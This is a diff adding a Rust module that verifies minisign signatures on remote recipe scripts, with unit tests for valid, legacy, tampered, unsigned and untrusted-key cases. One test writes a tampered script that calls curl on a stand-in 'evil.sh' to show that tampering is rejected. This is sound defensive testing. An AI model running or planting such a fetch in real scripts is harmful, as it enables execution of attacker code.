@@ -0,0 +1,391 @@
+// Signature verification for remote recipes
+//
+// Remote recipes can be signed with minisign: the detached signature `<script>.minisig`
+// is committed next to the script in the recipe repository, and only scripts signed by
+// one of the `recipes.trusted_keys` are executed. Verification runs on every execution,
+// so a tampered recipe cache is caught too.
+
+use anyhow::{anyhow, bail, Context, Result};
+use base64::engine::general_purpose::STANDARD as BASE64;
+use base64::Engine;
+use blake2::{Blake2b512, Digest};
+use ed25519_dalek::{Signature as Ed25519Signature, VerifyingKey};
+use std::path::{Path, PathBuf};
+
+/// Extension of detached signatures, appended to the script file name
+pub const SIGNATURE_EXTENSION: &str = "minisig";
+
+/// Signature algorithm of the legacy format (signs the file itself)
+const ALG_PURE: &[u8; 2] = b"Ed";
+
+/// Signature algorithm of the default format (signs the BLAKE2b-512 hash of the file)
+const ALG_PREHASHED: &[u8; 2] = b"ED";
+
+/// A minisign public key
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct PublicKey {
+    key_id: [u8; 8],
+    key: [u8; 32],
+}
+
+impl PublicKey {
+    /// Parse a public key: the base64 line of a minisign `.pub` file (`RW...`), or the
+    /// whole file
+    pub fn parse(input: &str) -> Result<Self> {
+        let encoded = input
+            .lines()
+            .map(str::trim)
+            .rfind(|line| !line.is_empty() && !line.starts_with("untrusted comment:"))
+            .ok_or_else(|| anyhow!("Empty public key"))?;
+        let bytes = BASE64
+            .decode(encoded)
+            .with_context(|| format!("Public key is not valid base64: {}", encoded))?;
+
+        if bytes.len() != 42 || &bytes[..2] != ALG_PURE {
+            bail!("Not a minisign Ed25519 public key: {}", encoded);
+        }
+
+        Ok(Self {
+            key_id: bytes[2..10].try_into().unwrap(),
+            key: bytes[10..].try_into().unwrap(),
+        })
+    }
+
+    /// Key ID as printed by minisign
+    pub fn key_id(&self) -> String {
+        format_key_id(&self.key_id)
+    }
+}
+
+/// A parsed `.minisig` file
+#[derive(Debug)]
+struct Signature {
+    prehashed: bool,
+    key_id: [u8; 8],
+    signature: [u8; 64],
+    trusted_comment: String,
+    global_signature: [u8; 64],
+}
+
+impl Signature {
+    fn parse(input: &str) -> Result<Self> {
+        let mut lines = input.lines();
+        let mut next_line = |what: &str| {
+            lines
+                .next()
+                .map(str::trim_end)
+                .ok_or_else(|| anyhow!("Signature is missing its {}", what))
+        };
+
+        let untrusted_comment = next_line("untrusted comment")?;
+        if !untrusted_comment.starts_with("untrusted comment:") {
+            bail!("Signature must start with an untrusted comment");
+        }
+
+        let bytes = BASE64
+            .decode(next_line("signature")?)
+            .context("Signature is not valid base64")?;
+        if bytes.len() != 74 {
+            bail!("Signature has an unexpected length");
+        }
+        let prehashed = match &bytes[..2] {
+            alg if alg == ALG_PREHASHED => true,
+            alg if alg == ALG_PURE => false,
+            _ => bail!("Unsupported signature algorithm"),
+        };
+
+        let trusted_comment = next_line("trusted comment")?
+            .strip_prefix("trusted comment: ")
+            .ok_or_else(|| anyhow!("Signature has a malformed trusted comment"))?
+            .to_string();
+
+        let global_signature = BASE64
+            .decode(next_line("global signature")?)
+            .context("Global signature is not valid base64")?;
+
+        Ok(Self {
+            prehashed,
+            key_id: bytes[2..10].try_into().unwrap(),
+            signature: bytes[10..].try_into().unwrap(),
+            trusted_comment,
+            global_signature: global_signature
+                .try_into()
+                .map_err(|_| anyhow!("Global signature has an unexpected length"))?,
+        })
+    }
+
+    /// Check that `key` signed `data` and the trusted comment
+    fn verify(&self, key: &PublicKey, data: &[u8]) -> Result<()> {
+        let valid = if self.prehashed {
+            verify_ed25519(&key.key, &Blake2b512::digest(data), &self.signature)
+        } else {
+            verify_ed25519(&key.key, data, &self.signature)
+        };
+        if !valid {
+            bail!("Signature verification failed");
+        }
+
+        let mut signed_comment = self.signature.to_vec();
+        signed_comment.extend_from_slice(self.trusted_comment.as_bytes());
+        if !verify_ed25519(&key.key, &signed_comment, &self.global_signature) {
+            bail!("Trusted comment verification failed");
+        }
+
+        Ok(())
+    }
+}
+
+/// Outcome of checking a recipe against the signature policy
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Verification {
+    /// Signed by the trusted key `key_id`
+    Verified {
+        key_id: String,
+        trusted_comment: String,
+    },
+
+    /// No signature next to the script (allowed since signatures aren't required)
+    Unsigned,
+
+    /// No trusted keys configured, so signatures aren't checked
+    NotChecked,
+}
+
+/// Which remote recipes may be executed
+#[derive(Debug, Clone, Default)]
+pub struct SignaturePolicy {
+    trusted_keys: Vec<PublicKey>,
+    require_signed: bool,
+}
+
+impl SignaturePolicy {
+    /// Policy from `recipes.trusted_keys` and `recipes.require_signed`
+    pub fn new(trusted_keys: &[String], require_signed: bool) -> Result<Self> {
+        let trusted_keys = trusted_keys
+            .iter()
+            .map(|key| PublicKey::parse(key))
+            .collect::<Result<Vec<_>>>()?;
+
+        if require_signed && trusted_keys.is_empty() {
+            bail!("Signed recipes are required but no trusted keys are configured");
+        }
+
+        Ok(Self {
+            trusted_keys,
+            require_signed,
+        })
+    }
+
+    /// Check the script at `script_path` against its detached signature
+    ///
+    /// Fails if the signature is invalid or from an untrusted key, or if the script is
+    /// unsigned and signatures are required.
+    pub fn check(&self, script_path: &Path) -> Result<Verification> {
+        if self.trusted_keys.is_empty() {
+            return Ok(Verification::NotChecked);
+        }
+
+        let sig_path = signature_path(script_path);
+        if !sig_path.exists() {
+            if self.require_signed {
+                bail!(
+                    "Recipe is not signed: {} not found (recipes.require_signed = true)",
+                    sig_path.display()
+                );
+            }
+            return Ok(Verification::Unsigned);
+        }
+
+        let signature = Signature::parse(
+            &std::fs::read_to_string(&sig_path)
+                .with_context(|| format!("Failed to read {}", sig_path.display()))?,
+        )
+        .with_context(|| format!("Invalid signature file {}", sig_path.display()))?;
+
+        let key = self
+            .trusted_keys
+            .iter()
+            .find(|key| key.key_id == signature.key_id)
+            .ok_or_else(|| {
+                anyhow!(
+                    "Recipe is signed by untrusted key {}",
+                    format_key_id(&signature.key_id)
+                )
+            })?;
+
+        let data = std::fs::read(script_path)
+            .with_context(|| format!("Failed to read {}", script_path.display()))?;
+        signature
+            .verify(key, &data)
+            .with_context(|| format!("Invalid signature for {}", script_path.display()))?;
+
+        Ok(Verification::Verified {
+            key_id: key.key_id(),
+            trusted_comment: signature.trusted_comment,
+        })
+    }
+}
+
+/// Path of the detached signature of `script_path` (`build.js` → `build.js.minisig`)
+pub fn signature_path(script_path: &Path) -> PathBuf {
+    let mut path = script_path.as_os_str().to_owned();
+    path.push(".");
+    path.push(SIGNATURE_EXTENSION);
+    PathBuf::from(path)
+}
+
+/// Minisign prints key IDs as big-endian hex of the little-endian stored bytes
+fn format_key_id(key_id: &[u8; 8]) -> String {
+    format!("{:016X}", u64::from_le_bytes(*key_id))
+}
+
+/// Ed25519 signature verification (RFC 8032)
+///
+/// Strict: rejects weak (small-order) keys and non-canonical signatures, so a valid
+/// signature can't be altered into another valid one.
+fn verify_ed25519(public_key: &[u8; 32], message: &[u8], signature: &[u8; 64]) -> bool {
+    let Ok(key) = VerifyingKey::from_bytes(public_key) else {
+        return false;
+    };
+    key.verify_strict(message, &Ed25519Signature::from_bytes(signature))
+        .is_ok()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use tempfile::TempDir;
+
+    const PUBLIC_KEY: &str = "RWQBI0VniavN7wOhB7/zzhC+HXDdGOdLwJln5NYwm6UNXx3chmQSVTG4";
+    const OTHER_PUBLIC_KEY: &str = "RWT+3LqYdlQyEHm1Vi6P5lT5QHixEuipi6eQH4U65pW+1+DjkQutBJZk";
+    const SCRIPT: &str = "Fabrik.exec('echo', ['hello']);\n";
+
+    /// `minisign -S` output for SCRIPT (prehashed, the default)
+    const SIGNATURE: &str = "untrusted comment: signature from minisign secret key
+RUQBI0VniavN7/twGpcdydyg8odWV6TDkbOG7U6QVDu2G903KZx8f+R85yzH/plzEw1xxp7/AJjNnHmUzw9Cwnh+IgbBhtEeWgk=
+trusted comment: timestamp:1700000000\tfile:build.js\thashed
+8Oj6zZ0da8a+meXYeCX8LD3iyo34BjVRFzPdYv5zRnb5hvYj5o6G9UaNkEAk5UAAj66T77G9/Lhg5QG47HgICw==
+";
+
+    /// `minisign -S -l` output for SCRIPT (legacy format)
+    const LEGACY_SIGNATURE: &str = "untrusted comment: signature from minisign secret key
+RWQBI0VniavN7yhvGID92zNrAfK6N65Ssz0Cl+iw9hrOaALyj0egQIldz+K1WS8LhKGPiRO5kkme62V0WZ3PfN3M8fmOo0oOuwI=
+trusted comment: timestamp:1700000000\tfile:build.js
+QXxjaqSC5TEBk5Ng+BDawxH+8krWCU4Ke2nn4nnYtmRusj6UC66FcJSwAqwaObtZ90cctyB/m99odC7XmysbDA==
+";
+
+    fn write_recipe(script: &str, signature: Option<&str>) -> (TempDir, PathBuf) {
+        let temp = TempDir::new().unwrap();
+        let script_path = temp.path().join("build.js");
+        std::fs::write(&script_path, script).unwrap();
+        if let Some(signature) = signature {
+            std::fs::write(signature_path(&script_path), signature).unwrap();
+        }
+        (temp, script_path)
+    }
+
+    fn policy(keys: &[&str], require_signed: bool) -> SignaturePolicy {
+        let keys: Vec<String> = keys.iter().map(|key| key.to_string()).collect();
+        SignaturePolicy::new(&keys, require_signed).unwrap()
+    }
+
+    #[test]
+    fn test_rfc8032_vector() {
+        let public_key: [u8; 32] =
+            hex::decode("d75a980182b10ab7d54bfed3c964073a0ee172f3daa62325af021a68f707511a")
+                .unwrap()
+                .try_into()
+                .unwrap();
+        let mut signature: [u8; 64] = hex::decode(
+            "e5564300c360ac729086e2cc806e828a84877f1eb8e5d974d873e065224901555fb8821590a33bacc61e39701cf9b46bd25bf5f0595bbe24655141438e7a100b",
+        )
+        .unwrap()
+        .try_into()
+        .unwrap();
+
+        assert!(verify_ed25519(&public_key, b"", &signature));
+        assert!(!verify_ed25519(&public_key, b"x", &signature));
+
+        // Malleated signature: S + L (the group order) is non-canonical
+        let order = hex::decode("edd3f55c1a631258d69cf7a2def9de1400000000000000000000000000000010")
+            .unwrap();
+        let mut malleated = signature;
+        let mut carry = 0u16;
+        for (byte, l) in malleated[32..].iter_mut().zip(&order) {
+            let sum = *byte as u16 + *l as u16 + carry;
+            *byte = sum as u8;
+            carry = sum >> 8;
+        }
+        assert!(!verify_ed25519(&public_key, b"", &malleated));
+
+        // Small-order (identity) key
+        let mut identity = [0u8; 32];
+        identity[0] = 1;
+        assert!(!verify_ed25519(&identity, b"", &signature));
+
+        signature[0] ^= 1;
+        assert!(!verify_ed25519(&public_key, b"", &signature));
+    }
+
+    #[test]
+    fn test_parse_public_key() {
+        let key = PublicKey::parse(PUBLIC_KEY).unwrap();
+        assert_eq!(key.key_id(), "EFCDAB8967452301");
+
+        let pub_file = format!("untrusted comment: minisign public key\n{}\n", PUBLIC_KEY);
+        assert_eq!(PublicKey::parse(&pub_file).unwrap(), key);
+
+        assert!(PublicKey::parse("not base64!").is_err());
+        assert!(PublicKey::parse("RWQBI0VniavN7w==").is_err());
+    }
+
+    #[test]
+    fn test_verified_signatures() {
+        for signature in [SIGNATURE, LEGACY_SIGNATURE] {
+            let (_temp, script_path) = write_recipe(SCRIPT, Some(signature));
+            let verification = policy(&[OTHER_PUBLIC_KEY, PUBLIC_KEY], true)
+                .check(&script_path)
+                .unwrap();
+            assert!(matches!(
+                verification,
+                Verification::Verified { ref key_id, .. } if key_id == "EFCDAB8967452301"
+            ));
+        }
+    }
+
+    #[test]
+    fn test_tampered_recipe_is_rejected() {
+        let (_temp, script_path) =
+            write_recipe("Fabrik.exec('curl', ['evil.sh']);\n", Some(SIGNATURE));
+        assert!(policy(&[PUBLIC_KEY], false).check(&script_path).is_err());
+
+        let tampered_comment = SIGNATURE.replace("hashed", "hashed, approved");
+        let (_temp, script_path) = write_recipe(SCRIPT, Some(&tampered_comment));
+        assert!(policy(&[PUBLIC_KEY], false).check(&script_path).is_err());
+    }
+
+    #[test]
+    fn test_untrusted_key_is_rejected() {
+        let (_temp, script_path) = write_recipe(SCRIPT, Some(SIGNATURE));
+        let err = policy(&[OTHER_PUBLIC_KEY], false)
+            .check(&script_path)
+            .unwrap_err();
+        assert!(err.to_string().contains("untrusted key EFCDAB8967452301"));
+    }
+
+    #[test]
+    fn test_unsigned_recipes() {
+        let (_temp, script_path) = write_recipe(SCRIPT, None);
+
+        assert!(policy(&[PUBLIC_KEY], true).check(&script_path).is_err());
+        assert_eq!(
+            policy(&[PUBLIC_KEY], false).check(&script_path).unwrap(),
+            Verification::Unsigned
+        );
+        assert_eq!(
+            policy(&[], false).check(&script_path).unwrap(),
+            Verification::NotChecked
+        );
+        assert!(SignaturePolicy::new(&[], true).is_err());
+    }
+}